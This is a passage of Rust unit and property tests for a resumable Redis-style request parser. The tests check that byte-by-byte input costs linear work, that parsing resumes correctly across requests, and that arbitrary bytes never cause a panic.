        let (got, steps) = trickle(&request, 1);
        assert_eq!(got, args);
        // A header window is at most 32 bytes and is re-read only while it is incomplete;
        // a bulk's data is not looked at until all of it can be there.
        let bound = 40 * request.len() as u64;
        assert!(steps <= bound, "{steps} steps for {} bytes", request.len());
        // Whole reads cost about the same as single bytes: no work depends on the split.
        let (_, whole) = trickle(&request, request.len());
        assert!(whole <= 2 * request.len() as u64, "{whole}");

        // The counter measures what was fixed: starting over on every read (a fresh
        // parser per read) costs quadratic work, here over 10 times as much already for
        // a tenth of the request.
        let small = multibulk(&args[..100]);
        let (_, resumed) = trickle(&small, 1);
        let mut buf = Vec::new();
        let mut fresh = 0;
        for &b in &small {
            buf.push(b);
            let mut p = Parser::new(Caps::default());
            let _ = p.parse(&buf).unwrap();
            fresh += p.steps();
        }
        assert!(fresh > 10 * resumed, "{fresh} vs {resumed}");

        // One big bulk, and an inline line near its cap, a byte at a time.
        let big = vec![vec![b'x'; 96 * 1024]];
        let (got, steps) = trickle(&multibulk(&big), 1);
        assert_eq!(got, big);
        assert!(steps <= 40 * 100 * 1024, "{steps}");
        let mut line = b"SET k ".to_vec();
        line.resize(60 * 1024, b'v');
        line.extend_from_slice(b"\r\n");
        let (got, steps) = trickle(&line, 1);
        assert_eq!(got.len(), 3);
        assert!(steps <= 3 * line.len() as u64, "{steps}");
    }

    #[test]
    fn a_parser_resumes_across_requests_and_starts_afresh_after_each() {
        let mut p = Parser::new(Caps::default());
        let mut buf = b"*2\r\n$3\r\nGET\r\n$1\r".to_vec();
        assert_eq!(p.parse(&buf).unwrap(), Parsed::Incomplete);
        buf.extend_from_slice(b"\nk\r\nPING\r\n");
        let Parsed::Request { args, consumed } = p.parse(&buf).unwrap() else {
            panic!()
        };
        assert_eq!(args, strs(&["GET", "k"]));
        buf.drain(..consumed);
        assert_eq!(
            p.parse(&buf).unwrap(),
            Parsed::Request {
                args: strs(&["PING"]),
                consumed: 6
            }
        );
        // A buffer that shrank against the contract is parsed from its start, not misread.
        let mut p = Parser::new(Caps::default());
        assert_eq!(p.parse(b"*1\r\n$4\r\nPI").unwrap(), Parsed::Incomplete);
        assert_eq!(
            p.parse(b"PING\r\n").unwrap(),
            Parsed::Request {
                args: strs(&["PING"]),
                consumed: 6
            }
        );
    }

    proptest! {
        #[test]
        fn arbitrary_bytes_never_panic(data in proptest::collection::vec(any::<u8>(), 0..512)) {
            let caps = Caps { max_args: 8, max_bulk: 64, max_inline: 128, max_request: 256 };
            let mut rest: &[u8] = &data;
            // Consume requests until the parser wants more or refuses: never panics, always
            // makes progress.
            for _ in 0..600 {
                match parse(rest, &caps) {
                    Ok(Parsed::Request { args, consumed }) => {
                        prop_assert!(consumed > 0 && consumed <= rest.len());
                        prop_assert!(args.len() <= caps.max_args);
                        prop_assert!(args.iter().all(|a| a.len() <= caps.max_request));
                        rest = &rest[consumed..];
                    }
                    Ok(Parsed::Skip { consumed }) => {
                        prop_assert!(consumed > 0 && consumed <= rest.len());
                        rest = &rest[consumed..];
                    }
                    Ok(Parsed::Incomplete) | Err(_) => break,
                }
            }
            let _ = render_args(std::slice::from_ref(&data));
        }

        /// Reading in pieces never changes what is parsed: at every read, the resumable
        /// parser says exactly what a fresh parse of the whole buffer says.
        #[test]
        fn resuming_matches_parsing_afresh(
            data in proptest::collection::vec(prop_oneof![
                Just(b'*'), Just(b'$'), Just(b'\r'), Just(b'\n'), Just(b'1'), Just(b'2'),
                Just(b'0'), Just(b'-'), Just(b' '), Just(b'"'), Just(b'a'), any::<u8>(),
            ], 0..400),
            step in 1usize..9,
        ) {
            let caps = Caps { max_args: 8, max_bulk: 64, max_inline: 128, max_request: 256 };
            let mut p = Parser::new(caps);
            let mut buf = Vec::new();
            for piece in data.chunks(step) {
                buf.extend_from_slice(piece);
                // Take every complete request this read made available.
                for _ in 0..600 {
                    let fresh = parse(&buf, &caps);
                    let resumed = p.parse(&buf);
                    prop_assert_eq!(&resumed, &fresh);
                    match resumed {
                        Ok(Parsed::Request { consumed, .. } | Parsed::Skip { consumed }) => {
                            buf.drain(..consumed);
                        }
                        Ok(Parsed::Incomplete) => break,
                        Err(_) => return Ok(()),
                    }
                }
            }
        }

        #[test]
        fn encoded_requests_round_trip(args in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..40), 1..6)) {
            let mut wire = format!("*{}\r\n", args.len()).into_bytes();
            for a in &args {
                wire.extend_from_slice(format!("${}\r\n", a.len()).as_bytes());
                wire.extend_from_slice(a);
                wire.extend_from_slice(b"\r\n");
            }
            prop_assert_eq!(parse(&wire, &Caps::default()), Ok(Parsed::Request { args, consumed: wire.len() }));
        }
    }
}
